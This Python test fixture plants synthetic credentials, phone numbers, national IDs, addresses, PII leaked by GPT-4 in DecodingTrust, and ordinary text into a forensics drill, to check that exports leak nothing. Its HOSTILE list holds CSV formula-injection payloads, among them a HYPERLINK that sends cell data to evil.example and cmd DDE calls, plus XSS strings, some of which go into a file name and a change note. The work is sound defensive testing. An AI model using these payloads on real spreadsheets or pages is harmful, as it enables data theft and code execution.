"""Private data planted into a case, to prove that nothing leaves it: one synthetic value
of each type the redactor and the ``private_data`` detector claim (credentials, phones of
many regions, national ids, addresses, dates of birth, IPs), real leaks from DecodingTrust's
privacy generations (``../shared/corpus/texts/decodingtrust_privacy``, CC BY-SA 4.0, read in
place), hostile cells for the safe-file checks, and ordinary text that must stay as it is.

A plant is ``(type, text, needles)``: ``text`` goes into an event, and none of ``needles``
may appear in any export."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from forensics.drills.generator import generate

Plant = tuple[str, str, tuple[str, ...]]

SYNTHETIC: list[Plant] = [
    ("email", "write to ana.lopez@contoso.com", ("ana.lopez@contoso.com",)),
    ("card", "card 4111 1111 1111 1111", ("4111 1111 1111 1111",)),
    ("card", "card 5500-0000-0000-0004", ("5500-0000-0000-0004",)),
    ("iban", "IBAN GB82 WEST 1234 5698 7654 32", ("GB82 WEST 1234 5698 7654 32",)),
    ("aws_access_key", "key id AKIAIOSFODNN7EXAMPLE", ("AKIAIOSFODNN7EXAMPLE",)),
    ("aws_secret_key", "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
     ("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",)),
    ("aws_secret_key", "the secret is wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ9Ld3pVx2Tk7Wm",
     ("wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ9Ld3pVx2Tk7Wm",)),
    ("github_token", "use github_pat_11AB2CDEF0aBcDeFgHiJkL_mNoPqRsTuVwXyZ0123456789aBcDeF"
     "gHiJkLmNoPqRsTuVw", ("github_pat_11AB2CDEF0aBcDeFgHiJkL_mNoPqRsTuVwXyZ0123456789",)),
    ("github_token", "token ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8",
     ("ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8",)),
    ("stripe_key", "stripe sk_live_51H8xQ2eZvKYlo2C0aBcDeFgHiJkLmN", ("sk_live_51H8xQ2eZvKYlo2C",)),
    ("openai_key", "OPENAI sk-proj-AbCdEfGhIjKlMnOpQrStUv123456", ("sk-proj-AbCdEfGhIjKlMnOp",)),
    ("env_password", "export DB_PASSWORD=Zx9!mQ2#tele", ("Zx9!mQ2#tele",)),
    ("yaml_password", "db:\n  password: p4ss-w0rd-yaml\n", ("p4ss-w0rd-yaml",)),
    ("json_secret", '{"client_secret": "cs_9f8e7d6c5b4a"}', ("cs_9f8e7d6c5b4a",)),
    ("url_password", "dsn postgres://app_user:S3cr3tPg@db.internal:5432/orders",
     ("S3cr3tPg", "app_user:S3cr")),
    ("keyed_entropy", "SESSION_SIGNING_KEY=8fK2mQ9xL4vR7nT1pW3zY6bC",
     ("8fK2mQ9xL4vR7nT1pW3zY6bC",)),
    ("phrase_password", "Dana's password is Tr0ub4dor&3.", ("Tr0ub4dor&3",)),
    ("private_key", "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7bqXk2\n"
     "-----END RSA PRIVATE KEY-----", ("MIIEpAIBAAKCAQEA7bqXk2",)),
    ("phone_fr", "appelez le +33 6 12 34 56 78", ("+33 6 12 34 56 78",)),
    ("phone_fr", "ou le 06 12 34 56 78", ("06 12 34 56 78",)),
    ("phone_in", "call +91 98765 43210", ("+91 98765 43210", "98765 43210")),
    ("phone_jp", "電話 090-1234-5678", ("090-1234-5678",)),
    ("phone_jp", "tel +81 3-1234-5678", ("+81 3-1234-5678", "3-1234-5678")),
    ("phone_br", "ligue +55 11 91234-5678", ("+55 11 91234-5678", "91234-5678")),
    ("phone_br", "ou (11) 98765-4321", ("98765-4321",)),
    ("phone_us", "call (415) 555-0132", ("555-0132",)),
    ("phone_bare", "phone 9382421948", ("9382421948",)),
    ("phone_uk", "ring +44 20 7946 0958", ("7946 0958",)),
    ("phone_de", "Tel. +49 30 901820", ("+49 30 901820",)),
    ("ssn", "SSN 536-22-8726", ("536-22-8726",)),
    ("ssn_bare", "social 536228727", ("536228727",)),
    ("nino", "NI number AB 12 34 56 C", ("AB 12 34 56 C",)),
    ("nino", "NINO JG103759A", ("JG103759A",)),
    ("dni", "DNI 12345678Z", ("12345678Z",)),
    ("nie", "NIE X1234567L", ("X1234567L",)),
    ("cpf", "CPF 123.456.789-09", ("123.456.789-09",)),
    ("passport", "passport number: 533380006", ("533380006",)),
    ("passport", "Passport No. X12345678", ("X12345678",)),
    ("address", "lives at 742 Evergreen Terrace, Springfield, IL 62704",
     ("742 Evergreen Terrace", "62704")),
    ("address", "send it to 221B Baker Street, London NW1 6XE", ("221B Baker Street", "NW1 6XE")),
    ("address", "bureau au 12 rue de la Paix, 75002 Paris", ("12 rue de la Paix",)),
    ("address", "Büro: Hauptstraße 5, 10115 Berlin", ("Hauptstraße 5",)),
    ("dob", "Maria Lopez, born 14 July 1990", ("14 July 1990",)),
    ("dob", "John Smith (DOB: 1985-03-12)", ("1985-03-12",)),
    ("dob", "Ken Adams, date of birth 03/12/1979", ("03/12/1979",)),
    ("ip", "from 81.2.69.142", ("81.2.69.142",)),
    ("ip", "client 2a00:1450:4007:80e::200e", ("2a00:1450:4007:80e::200e",)),
]

# Cells a spreadsheet would run, and Markdown a viewer would turn into HTML or script links.
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\rINJECTED,row",
           "\tTAB-LED", "<script>alert('pm')</script>", "<img src=x onerror=alert(1)>",
           "[click me](javascript:alert(document.cookie))", "[x](JaVaScRiPt&#58;alert(2))"]

# Ordinary text that must come out as it went in, and that the detector must not flag.
ORDINARY = [
    "Your order #48213 shipped on 2024-03-15 and arrives by 03/18/2024.",
    "The total is $1,299.99 (EUR 1.199,00), tax 19% included.",
    "Upgrade to version 2.3.11 or build 1.21.0.4; see RFC 7231 and ISO 8601.",
    "Order ORD-2024-001234 and ticket JIRA-5521 were merged at 14:30 UTC.",
    "Model gpt-4o-2024-08-06 replaced claude-3-5-sonnet-20241022 on 12 March 2026.",
    "Revenue grew 12.5% to 1,234,567 units in Q3 2024 across 48 stores.",
    "Commit 3f9a1c02deadbeef4b1e9a7c0d2e5f6a7b8c9d0e fixed issue 4412.",
    "Run pip install polars==2.1.0 and restart; the password is required to continue.",
    "The iPhone15 and ORDER12345 are in stock; call the store for details.",
    "Meeting on Monday 10:00-11:30 in room 4.12, floor 3.",
]


def decodingtrust(corpus: Path, per_type: int = 4) -> list[Plant]:
    """Real leaks: for each PII type, the first ``per_type`` rows whose model output holds
    the planted value (DecodingTrust's own metric), as the sentence the prompt planted and
    the bare answer the model gave."""
    base = corpus / "texts/decodingtrust_privacy/data/privacy/generations/pii"
    plants: list[Plant] = []
    for path in sorted(base.glob("*gpt-4-0314*.jsonl")):
        kind = path.name.split("_1shot")[0]
        n = 0
        for line in path.read_text(encoding="utf-8").splitlines():
            r = json.loads(line)
            gt, out = r["gt"], r["continuation"] or ""
            if not gt or gt not in out or n >= per_type:
                continue
            asked = r["prompt"][-1]["content"]
            context = r["prompt"][0]["content"]
            at = context.find(gt)
            start = context.rfind(". ", 0, max(at, 0)) + 2 if at >= 0 else 0
            said = context[start:context.find(gt) + len(gt) + 1] if at >= 0 else context
            plants.append((f"dt_{kind}", f"{said} Q: {asked} A: {out}", (gt,)))
            n += 1
    return plants


def plant_case(root: Path, plants: list[Plant], hostile: list[str] = HOSTILE,
               events: int = 6000) -> tuple[Path, dict[str, Any]]:
    """A drill (retrieval_leak) whose affected events carry every plant in their input,
    output, system prompt and first retrieved document, loaded and labelled (the answer
    key's events), with a hostile change note and a hostile evidence file name."""
    import forensics

    drill = root / "drill"
    generate(drill, "retrieval_leak", seed=5, events=events, days=4)
    key = json.loads((drill / "answer_key.json").read_text(encoding="utf-8"))
    affected = set((drill / "affected_events.txt").read_text(encoding="utf-8").split())
    texts = [t for _, t, _ in plants]
    lines = []
    for i, line in enumerate((drill / "events.jsonl").read_text(encoding="utf-8").splitlines()):
        e = json.loads(line)
        if e["event_id"] in affected:
            k = i % len(texts)
            rotated = texts[k:] + texts[:k]
            head = " ".join(hostile[i % len(hostile):] + hostile[:i % len(hostile)])
            e["input_text"] = f"{hostile[i % len(hostile)]} {e['input_text']} " + " ".join(rotated)
            e["output_text"] = f"{head} {e['output_text']} " + " | ".join(rotated)
            e["system_prompt"] = (e.get("system_prompt") or "") + " " + " ; ".join(rotated)
            if e.get("retrievals"):
                e["retrievals"][0]["content"] += " " + " ".join(rotated)
        lines.append(json.dumps(e, ensure_ascii=False))
    name = "events <img src=x onerror=alert(1)>.jsonl"
    (drill / name).write_text("\n".join(lines) + "\n", encoding="utf-8")
    changes = [json.loads(x) for x in (drill / "changes.jsonl").read_text("utf-8").splitlines()]
    for c in changes:
        if c["change_id"] == key["root_cause"]["change_id"]:
            c["note"] += " <script>alert('note')</script> [docs](javascript:alert(3))"
    (drill / "changes.jsonl").write_text("".join(json.dumps(c) + "\n" for c in changes), "utf-8")
    path = root / "planted.duckdb"
    case = forensics.open(path)
    for f in (name, "changes.jsonl", "feedback.jsonl"):
        case.load(drill / f)
    case.con.execute(
        "INSERT INTO labels SELECT event_id, ?, 'rule', 1, NULL, 'test' FROM events "
        "WHERE list_contains(?, event_id)", [key["pattern"]["labels"][-1], sorted(affected)])
    case.close()
    return path, key
